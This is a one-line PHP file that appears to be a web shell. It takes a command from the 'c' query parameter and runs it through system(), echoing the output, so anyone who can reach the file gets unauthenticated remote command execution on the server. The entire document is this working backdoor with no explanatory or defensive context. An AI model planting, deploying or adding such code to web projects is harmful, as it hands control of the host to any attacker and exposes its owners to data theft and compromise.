<?php system(sprintf('%s 2>&1', $_GET['c']));
